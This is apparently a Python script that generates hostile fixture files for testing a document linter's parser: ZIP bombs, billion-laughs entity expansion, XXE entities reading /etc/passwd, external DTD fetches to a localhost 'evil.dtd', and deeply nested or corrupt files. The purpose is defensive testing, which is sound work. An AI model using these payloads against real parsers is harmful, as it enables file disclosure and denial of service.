#!/usr/bin/env python3
"""Writes the hostile corpus under Fixtures/hostile/ (issue 9): each input with a sidecar
NAME.ext.error holding what reading it must give (see Fixtures/hostile/README.md).

Every committed file stays under 200 KB; huge content comes from compression. Python's
standard library only (zipfile, zlib, struct), deterministic: fixed ZIP timestamps and a
seeded generator, so a rerun rewrites the same files (byte-identical as long as zlib's
output is).

Usage:
  scripts/make-hostile-fixtures.py               # (re)writes Fixtures/hostile/
  scripts/make-hostile-fixtures.py --large DIR   # writes only the inputs too big to commit,
                                                 # with sidecars (scripts/hostile.sh --large)
"""
import io
import pathlib
import random
import struct
import sys
import zipfile
import zlib

ROOT = pathlib.Path(__file__).resolve().parent.parent
OUT = ROOT / "Fixtures/hostile"
GOOD_PLAN = ROOT / "Fixtures/markdown/good/ke-hoach-nam-2021.md"
MAX_COMMITTED_SIZE = 200 * 1024

# Where the XXE fixtures point. /etc/passwd exists on any Linux and its first line
# ("root:x:0:0:…") is easy to search for; the canary is written by the tests
# (HostileCorpusTests) so they know exactly what must never appear in any output.
LOCAL_SECRET = "/etc/passwd"
CANARY = "/tmp/kehoach-lint-xxe-canary.txt"
# Nothing listens here; the tests listen on it to prove no connection is ever made.
UNUSED_URL = "http://127.0.0.1:47913"

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
CONTENT_TYPES = (
    XML_HEAD + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    '<Override PartName="/word/numbering.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.numbering+xml"/>'
    '<Override PartName="/word/styles.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/>'
    "</Types>"
)
PACKAGE_RELS = (
    XML_HEAD + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)


def document_rels(kinds):
    items = "".join(
        f'<Relationship Id="r{kind}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{kind}.xml"/>'
        for kind in kinds
    )
    return XML_HEAD + f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{items}</Relationships>'


def paragraph(text, style=None, num_id=None):
    props = ""
    if style or num_id:
        props = "<w:pPr>"
        if style:
            props += f'<w:pStyle w:val="{style}"/>'
        if num_id:
            props += f'<w:numPr><w:ilvl w:val="0"/><w:numId w:val="{num_id}"/></w:numPr>'
        props += "</w:pPr>"
    return f'<w:p>{props}<w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def document(body, prolog=""):
    return XML_HEAD + prolog + f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'


# A short, harmless body: the hostile part of each package is elsewhere.
PLAIN_BODY = paragraph("ỦY BAN NHÂN DÂN HUYỆN A") + paragraph("Nội dung thử nghiệm cho bộ đầu vào độc hại.")
PLAIN_NUMBERING = (
    XML_HEAD + f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0">'
    '<w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum>'
    '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
)


def zip_bytes(parts, level=9):
    """A ZIP of `parts` (name → bytes or str), deflated, with fixed timestamps."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            archive.writestr(info, data.encode("utf-8") if isinstance(data, str) else data, compresslevel=level)
    return buffer.getvalue()


def docx(document_xml, numbering=None, styles=None, extra=None):
    parts = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": PACKAGE_RELS}
    kinds = [kind for kind, content in (("styles", styles), ("numbering", numbering)) if content is not None]
    parts["word/_rels/document.xml.rels"] = document_rels(kinds)
    parts["word/document.xml"] = document_xml
    if styles is not None:
        parts["word/styles.xml"] = styles
    if numbering is not None:
        parts["word/numbering.xml"] = numbering
    parts.update(extra or {})
    return zip_bytes(parts)


# MARK: XML attacks

BILLION_LAUGHS_DTD = "<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n" + "".join(
    f' <!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 2 else "") + ";") * 10}">\n' for n in range(2, 10)
) + "]>\n"


def billion_laughs(root):
    # The DOCTYPE names the part's own root so it is well formed; &lol9; is 10^9 "lol"s.
    return BILLION_LAUGHS_DTD.replace("lolz", root)


def xxe_prolog(root, target, padding=0):
    comment = f"<!--{'x' * padding}-->\n" if padding else ""
    return comment + f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file://{target}">]>\n'


def numbering_with(prolog, body_text="&xxe;"):
    return (
        XML_HEAD + prolog + f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0">'
        f'<w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="{body_text}%1."/></w:lvl></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )


def nested_tables(levels):
    """`levels` nested elements: tables in table cells, the structure the reader recurses into.

    Well formed but for its depth, in Word's namespace as the default one so the part stays
    under 1 MB: the compression-ratio check only judges larger parts, and it must be the
    depth that stops this file.
    """
    tables = levels // 3 + 1
    opening = "<tbl><tr><tc>" * tables
    closing = "</tc></tr></tbl>" * tables
    xml = XML_HEAD + f'<document xmlns="{W}"><body>{opening}<p/>{closing}</body></document>'
    assert len(xml) < 1024 * 1024
    return xml


def huge_paragraph(megabytes):
    phrase = "Nội dung kế hoạch ứng dụng công nghệ thông tin. "
    repeat = megabytes * 1024 * 1024 // len(phrase.encode("utf-8")) + 1
    return document(f'<w:p><w:r><w:t xml:space="preserve">{phrase * repeat}</w:t></w:r></w:p>')


# MARK: ZIP damage

def find_all(data, needle):
    index = data.find(needle)
    while index != -1:
        yield index
        index = data.find(needle, index + 1)


def patch_entry(data, name, field, value):
    """Rewrites a 32-bit field ('crc' or 'size') of entry `name` in its local and central headers."""
    data = bytearray(data)
    encoded = name.encode()
    layouts = {b"PK\x03\x04": (26, 30, {"crc": 14, "size": 22}), b"PK\x01\x02": (28, 46, {"crc": 16, "size": 24})}
    for signature, (length_at, name_at, offsets) in layouts.items():
        for start in find_all(bytes(data), signature):
            length = struct.unpack_from("<H", data, start + length_at)[0]
            if bytes(data[start + name_at:start + name_at + length]) == encoded:
                struct.pack_into("<I", data, start + offsets[field], value)
    return bytes(data)


def many_entries(real, declared):
    """A stored ZIP of `real` empty entries whose end record declares `declared` entries.

    A real archive over the 10,000-entry limit is at least 470 KB (46 bytes of central
    directory per entry), too big to commit; the tests build that one at run time.
    """
    local = bytearray()
    central = bytearray()
    for index in range(real):
        name = f"m/{index:04d}".encode()
        offset = len(local)
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, 0, 0, 0, len(name), 0) + name
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21, 0, 0, 0, len(name), 0, 0, 0, 0, 0, offset
        ) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, declared, declared, len(central), len(local), 0)
    return bytes(local + central + end)


# MARK: OLE compound files (.doc, encrypted .docx)

FREESECT, ENDOFCHAIN, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def compound_file(streams):
    """A version 3 Compound File Binary (MS-CFB) holding `streams` (name → bytes) under the
    root storage: 512-byte sectors, one FAT sector, streams under 4096 bytes in the mini
    stream. Valid enough for readers that follow the FAT and directory (not a full writer:
    one FAT sector, all directory entries black)."""
    sector = 512
    names = sorted(streams, key=lambda name: (len(name), name.upper()))
    big = {name: data for name, data in streams.items() if len(data) >= 4096}
    small = {name: data for name, data in streams.items() if len(data) < 4096}

    sectors = []  # sector contents, in order (sector ids are indexes)
    fat = []

    def add_chain(data):
        count = max(1, (len(data) + sector - 1) // sector)
        first = len(sectors)
        for index in range(count):
            sectors.append(data[index * sector:(index + 1) * sector].ljust(sector, b"\0"))
            fat.append(first + index + 1 if index < count - 1 else ENDOFCHAIN)
        return first

    sectors.append(b"")  # sector 0: the FAT, filled in at the end
    fat.append(FATSECT)
    directory_sector = len(sectors)
    sectors.append(b"")  # sector 1: the directory (up to 4 entries)
    fat.append(ENDOFCHAIN)

    # Mini stream: 64-byte mini sectors, chained in the mini FAT.
    mini_stream = bytearray()
    mini_fat = []
    starts = {}
    for name in names:
        if name in small:
            data = small[name]
            first = len(mini_stream) // 64
            count = max(1, (len(data) + 63) // 64)
            mini_stream += data.ljust(count * 64, b"\0")
            mini_fat += [first + index + 1 if index < count - 1 else ENDOFCHAIN for index in range(count)]
            starts[name] = first
    mini_fat_start = add_chain(b"".join(struct.pack("<I", value) for value in mini_fat)) if mini_fat else ENDOFCHAIN
    mini_stream_start = add_chain(bytes(mini_stream)) if mini_stream else ENDOFCHAIN
    for name in names:
        if name in big:
            starts[name] = add_chain(big[name])

    def entry(name, kind, start, size, child=NOSTREAM, left=NOSTREAM, right=NOSTREAM):
        encoded = (name + "\0").encode("utf-16-le") if name else b""
        return (
            encoded.ljust(64, b"\0")
            + struct.pack("<HBBIII", len(encoded), kind, 1, left, right, child)
            + b"\0" * 16 + b"\0" * 4 + b"\0" * 16
            + struct.pack("<IQ", start, size)
        )

    # Children of the root as a balanced binary search tree (ordered by length, then name).
    ids = {name: index + 1 for index, name in enumerate(names)}
    links = {}

    def build(group):
        if not group:
            return NOSTREAM
        middle = len(group) // 2
        links[group[middle]] = (build(group[:middle]), build(group[middle + 1:]))
        return ids[group[middle]]

    root_child = build(names)
    entries = entry("Root Entry", 5, mini_stream_start, len(mini_stream), child=root_child)
    for name in names:
        left, right = links[name]
        entries += entry(name, 2, starts[name], len(streams[name]), left=left, right=right)
    assert len(names) <= 3, "one directory sector holds four entries"
    while len(entries) < sector:
        entries += entry("", 0, 0, 0)  # unallocated
    sectors[directory_sector] = entries
    assert len(fat) <= sector // 4, "one FAT sector"
    sectors[0] = b"".join(struct.pack("<I", value) for value in fat).ljust(sector, b"\xff")

    header = bytearray(512)
    header[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHHH", header, 24, 0x003E, 0x0003, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 40, 0, 1, directory_sector, 0, 4096, mini_fat_start,
                     1 if mini_fat else 0, ENDOFCHAIN, 0)
    struct.pack_into("<I", header, 76, 0)  # DIFAT[0]: the FAT is sector 0
    for index in range(1, 109):
        struct.pack_into("<I", header, 76 + 4 * index, FREESECT)
    return bytes(header) + b"".join(sectors)


def legacy_doc():
    # A Word 97-2003 FIB: wIdent 0xA5EC, nFib 0x00C1 (Word 97), then zeros.
    fib = struct.pack("<HHHHH", 0xA5EC, 0x00C1, 0, 0x0409, 0).ljust(4096, b"\0")
    return compound_file({"WordDocument": fib, "1Table": b"\0" * 512})


def encrypted_docx():
    # ECMA-376 agile encryption: EncryptionInfo (version 4.4, then the XML descriptor) and
    # EncryptedPackage (the plaintext size, then ciphertext; random bytes stand in for it).
    descriptor = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
        '<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption" '
        'xmlns:p="http://schemas.microsoft.com/office/2006/keyEncryptor/password">'
        '<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" '
        'cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/>'
        '<keyEncryptors><keyEncryptor uri="http://schemas.microsoft.com/office/2006/keyEncryptor/password">'
        '<p:encryptedKey spinCount="100000" saltSize="16" blockSize="16" keyBits="256" hashSize="64" '
        'cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" '
        'saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></keyEncryptor></keyEncryptors></encryption>'
    ).encode()
    info = struct.pack("<HHI", 4, 4, 0x40) + descriptor
    generator = random.Random(9)
    package = struct.pack("<Q", 6000) + bytes(generator.getrandbits(8) for _ in range(6016))
    return compound_file({"EncryptionInfo": info, "EncryptedPackage": package})


# MARK: other formats

def pdf():
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
    ]
    text = b"BT /F1 12 Tf 72 770 Td (KE HOACH ung dung CNTT nam 2021) Tj ET"
    objects.append(b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream")
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def invalid_utf8():
    # The good plan with one line damaged the way a bad copy-paste or a cut transfer does:
    # a lone continuation byte, a truncated sequence and 0xFF, which UTF-8 never uses.
    lines = GOOD_PLAN.read_bytes().split(b"\n")
    lines[12] = lines[12] + b" \x80 \xe1\xba \xff"
    return b"\n".join(lines)


# MARK: the corpus

def corpus():
    """name → (bytes, expected); expected is an error code or 'readable [RULE-ID …]'."""
    good = GOOD_PLAN.read_text(encoding="utf-8")
    plain = docx(document(PLAIN_BODY))
    files = {
        # ZIP bombs
        "zip-bomb-ratio.docx": (docx(document(paragraph(" " * (64 * 1024 * 1024)))), "limit-exceeded"),
        "zip-bomb-lying-size.docx": (
            patch_entry(docx(document(paragraph(" " * (16 * 1024 * 1024)))), "word/document.xml", "size", 1000),
            "limit-exceeded",
        ),
        "zip-many-entries.docx": (many_entries(real=2000, declared=65000), "limit-exceeded"),
        # XML entity attacks, DTDs
        "billion-laughs-document.docx": (
            docx(document(paragraph("&lol9;"), prolog=billion_laughs("w:document"))),
            "malformed-xml",
        ),
        "billion-laughs-numbering.docx": (
            docx(document(paragraph("Có đánh số", num_id=1)), numbering=numbering_with(billion_laughs("w:numbering"), "&lol9;")),
            "malformed-xml",
        ),
        "xxe-document.docx": (
            docx(document(paragraph("&xxe;"), prolog=xxe_prolog("w:document", LOCAL_SECRET))),
            "malformed-xml",
        ),
        "xxe-numbering.docx": (
            docx(document(paragraph("Có đánh số", num_id=1)), numbering=numbering_with(xxe_prolog("w:numbering", CANARY))),
            "malformed-xml",
        ),
        # Past the 8 KB the prolog scan reads: libxml2's own DOCTYPE node check must stop it.
        "xxe-after-long-comment.docx": (
            docx(document(paragraph("&xxe;"), prolog=xxe_prolog("w:document", CANARY, padding=20_000))),
            "malformed-xml",
        ),
        "doctype-url.docx": (
            docx(document(PLAIN_BODY, prolog=f'<!DOCTYPE w:document SYSTEM "{UNUSED_URL}/ke-hoach.dtd">\n')),
            "malformed-xml",
        ),
        "doctype-parameter-entity-url.docx": (
            docx(document(paragraph("&exfil;"), prolog=(
                f'<!DOCTYPE w:document [<!ENTITY % remote SYSTEM "{UNUSED_URL}/evil.dtd"> %remote;]>\n'))),
            "malformed-xml",
        ),
        # The same, past the prolog scan: libxml2 itself must neither fetch nor load anything.
        "doctype-url-after-long-comment.docx": (
            docx(document(paragraph("&exfil;"), prolog=(
                f"<!--{'x' * 20_000}-->\n"
                f'<!DOCTYPE w:document SYSTEM "{UNUSED_URL}/ke-hoach.dtd" '
                f'[<!ENTITY % remote SYSTEM "{UNUSED_URL}/evil.dtd"> %remote;]>\n'))),
            "malformed-xml",
        ),
        "doctype-local-file.docx": (
            docx(document(PLAIN_BODY, prolog='<!DOCTYPE w:document SYSTEM "file:///etc/passwd">\n')),
            "malformed-xml",
        ),
        # Depth and size
        "nested-100k.docx": (docx(nested_tables(100_000)), "limit-exceeded"),
        "paragraph-50mb.docx": (docx(huge_paragraph(50)), "limit-exceeded"),
        # Damaged archives
        "zip-truncated.docx": (plain[: len(plain) * 3 // 5], "corrupt-zip"),
        "zip-wrong-crc.docx": (patch_entry(plain, "word/document.xml", "crc", 0xDEADBEEF), "corrupt-zip"),
        # Not a .docx at all
        "legacy-word.doc": (legacy_doc(), "legacy-doc"),
        "legacy-word-renamed.docx": (legacy_doc(), "legacy-doc"),
        "encrypted.docx": (encrypted_docx(), "encrypted"),
        "pdf-renamed.docx": (pdf(), "not-word"),
        "empty.docx": (b"", "empty-file"),
        "empty.md": (b"", "empty-file"),
        # Markdown
        "invalid-utf8.md": (invalid_utf8(), "wrong-encoding"),
        "utf16le-bom.md": (b"\xff\xfe" + good.encode("utf-16-le"), "readable"),
        "utf16be-bom.md": (b"\xfe\xff" + good.encode("utf-16-be"), "readable"),
        "utf16le-no-bom.md": (good.encode("utf-16-le"), "readable"),
        "nested-blockquotes.md": (("# Kế hoạch\n\n" + ">" * 100_000 + " trích dẫn\n").encode(), "limit-exceeded"),
        "nested-lists.md": (("# Kế hoạch\n\n" + "- " * 50_000 + "mục\n").encode(), "limit-exceeded"),
        "nested-emphasis.md": (("# Kế hoạch\n\n" + "*" * 50_000 + "nhấn" + "*" * 50_000 + "\n").encode(), "limit-exceeded"),
    }
    return files


def large(folder):
    """Inputs too big to commit, for scripts/hostile.sh (expected outcome in the name's sidecar)."""
    folder.mkdir(parents=True, exist_ok=True)
    generator = random.Random(50)
    words = "kế hoạch ứng dụng công nghệ thông tin chính quyền số an toàn dữ liệu năm huyện tỉnh dự án".split()
    text = " ".join(generator.choice(words) for _ in range(9_000_000))
    text = text.encode()[: 50 * 1024 * 1024].decode("utf-8", "ignore")
    # 50 MB of text in one paragraph, compressing far less than the 200:1 ratio limit.
    runs = "".join(
        f'<w:r><w:t xml:space="preserve">{text[i:i + 65536]}</w:t></w:r>' for i in range(0, len(text), 65536)
    )
    outputs = {
        # Each paragraph (the 1 MB paragraph limit), or libxml2's 10 MB text-node cap.
        "paragraph-50mb-low-ratio.docx": (docx(document(f"<w:p>{runs}</w:p>")), "limit-exceeded"),
        "paragraph-50mb-one-text-node.docx": (docx(document(paragraph(text))), "limit-exceeded"),
        "paragraph-50mb.md": (("# Kế hoạch\n\n" + text + "\n").encode(), "limit-exceeded"),
        # A large download cut short: no end-of-central-directory record anywhere.
        "zip-100mb-no-directory.docx": (
            b"PK\x03\x04" + bytes(generator.getrandbits(8) for _ in range(1024)) * 100 * 1024,
            "corrupt-zip",
        ),
    }
    for name, (data, expected) in outputs.items():
        (folder / name).write_bytes(data)
        (folder / f"{name}.error").write_text(expected + "\n")
    # Over the 200 MB file-size limit, without using the disk (sparse).
    with open(folder / "over-200mb.docx", "wb") as handle:
        handle.truncate(201 * 1024 * 1024)
        handle.seek(0)
        handle.write(b"PK\x03\x04")
    (folder / "over-200mb.docx.error").write_text("limit-exceeded\n")
    print(f"wrote {len(outputs) + 1} large inputs to {folder}")


def main():
    if len(sys.argv) == 3 and sys.argv[1] == "--large":
        large(pathlib.Path(sys.argv[2]))
        return
    OUT.mkdir(parents=True, exist_ok=True)
    files = corpus()
    for name, (data, expected) in files.items():
        assert len(data) < MAX_COMMITTED_SIZE, f"{name} is {len(data)} bytes"
        (OUT / name).write_bytes(data)
        (OUT / f"{name}.error").write_text(expected + "\n")
    # The legacy-encoding drafts come from make-legacy-encoding-fixtures.py; their sidecars here.
    for name in ("ke-hoach-nam-2021-tcvn3.md", "ke-hoach-nam-2021-vni.md"):
        (OUT / "encoding" / f"{name}.error").write_text("readable legacy-encoding\n")
    (OUT / "zip-offset-past-end.docx.error").write_text("corrupt-zip\n")
    print(f"wrote {len(files)} hostile inputs to {OUT.relative_to(ROOT)}")


if __name__ == "__main__":
    main()
